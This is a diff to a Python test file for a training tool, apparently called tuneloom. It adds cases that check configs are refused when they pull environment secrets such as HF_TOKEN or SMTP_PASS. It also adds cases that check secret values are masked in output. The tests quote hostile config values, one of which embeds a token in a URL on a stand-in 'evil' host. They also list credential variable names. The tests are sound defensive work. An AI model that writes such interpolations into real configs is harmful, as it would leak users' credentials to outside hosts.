@@ -236,6 +236,10 @@ CODE_FILES = {
     "defaults: [{/model: ../../x}]": "write no '..'",
     "data: {path: 'https://evil/${oc.env:HF_TOKEN}.jsonl'}": "takes no secret from the environment",
     "data: {path: 'x/${ oc.env :my_api_key,y}'}": "takes no secret from the environment",
+    "data: {path: \"${oc.env:'HF_TOKEN'}\"}": "HF_TOKEN: a config takes no secret",
+    "data: {path: '${oc.env:\"SMTP_PASS\"}'}": "SMTP_PASS: a config takes no secret",
+    "data: {path: '${oc.env:ENCRYPTION_KEY ,x}'}": "ENCRYPTION_KEY: a config takes no secret",
+    "data: {path: '${oc.env:\\HF_TOKEN}'}": "takes no secret from the environment",
     "a: HF_TOKEN\ndata: {path: '${oc.env:${a}}'}": "takes no secret from the environment",
 }
 """Experiments of a config folder, and what is said of them."""
@@ -783,7 +787,21 @@ SAID = "import sys; from tuneloom.redact import redact; print(redact(sys.argv[1]
 
 @pytest.mark.parametrize("secret", ["/w3x9Qz+t0pSecret==", "a tenant's key, kept apart"])
 @pytest.mark.parametrize(
-    "name", ["DB_PASSWORD", "TUNELOOM_PSEUDONYM_KEY", "SSH_PASSPHRASE", "PRIVATE_KEY"]
+    "name",
+    [
+        "DB_PASSWORD",
+        "TUNELOOM_PSEUDONYM_KEY",
+        "SSH_PASSPHRASE",
+        "PRIVATE_KEY",
+        "DB_PASS",
+        "PGPASSWORD",
+        "MYSQL_PWD",
+        "OPENAI_KEY",
+        "AZURE_STORAGE_KEY",
+        "REDIS_AUTH",
+        "MY_APIKEY2",
+        "GIT_CREDENTIALS",
+    ],
 )
 def test_the_value_of_a_secret_variable_is_masked_and_the_name_of_a_file_is_not(
     name: str, secret: str, tmp_path: Path
@@ -794,3 +812,29 @@ def test_the_value_of_a_secret_variable_is_masked_and_the_name_of_a_file_is_not(
         env=environment, capture_output=True, text=True, check=True,
     )  # fmt: skip
     assert done.stdout == f"no [secret] in {tmp_path}\n"
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["TOKENIZER_NAME", "API_TOKEN_FILE", "SSH_AUTH_SOCK", "KEY_MODE", "PWD", "AUTHOR", "MONKEY"],
+)
+def test_a_variable_that_only_sounds_like_a_secret_is_none(name: str, tmp_path: Path) -> None:
+    done = subprocess.run(
+        [sys.executable, "-c", SAID, "the value stays"],
+        env=os.environ | {name: "the value"}, capture_output=True, text=True, check=True,
+    )  # fmt: skip
+    assert done.stdout == "the value stays\n"
+    (tmp_path / "mine.yaml").write_text("a: ${oc.env:" + name + "}")
+    check_file(tmp_path / "mine.yaml")
+
+
+def test_a_path_that_the_record_would_mask_is_refused_with_the_variable_that_is_in_it(
+    tmp_path: Path,
+) -> None:
+    command = ["-m", "tuneloom", "train", "data.path=datasets/postgres_faq", "model.path=base"]
+    done = subprocess.run(
+        [sys.executable, *command, f"run.root={tmp_path}"],
+        env=os.environ | {"DB_PASS": "postgres"}, capture_output=True, text=True,
+    )  # fmt: skip
+    assert done.returncode == 2 and list(tmp_path.iterdir()) == []
+    assert "data.path: datasets/[secret]_faq holds the value of DB_PASS" in done.stderr
